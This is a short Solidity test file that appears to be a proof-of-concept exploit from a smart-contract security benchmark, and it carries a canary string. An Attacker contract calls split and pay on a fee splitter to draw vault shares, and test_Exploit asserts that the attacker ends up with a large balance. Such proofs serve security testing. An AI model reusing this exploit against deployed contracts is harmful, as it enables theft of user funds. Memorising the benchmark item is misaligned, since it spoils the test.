// SPDX-License-Identifier: GPL-2.0-or-later
pragma solidity 0.8.30;

// assay-canary-8c5098a9-c61a-4b31-8860-b5736bf60939
import "../Base.sol";
import {IFeeSplitter} from "../../src/interfaces/IServices.sol";

contract Attacker {
    function run(IFeeSplitter splitter, IVault vault, address manager) external {
        splitter.split(vault);
        splitter.pay(vault, manager);
    }
}

contract Proof is Base {
    Attacker private other;

    function start() internal override {
        bonus(40_000e6);
        other = new Attacker();
    }

    function shares() public view returns (IERC20) {
        return core;
    }

    function exploit() public {
        other.run(splitter, core, MAX);
    }

    function test_Exploit() public {
        exploit();
        require(core.balanceOf(address(other)) >= 100e12, "no gain");
    }

    function target() public view override returns (address) {
        return address(splitter);
    }

    function attacker() public view returns (address) {
        return address(other);
    }
}
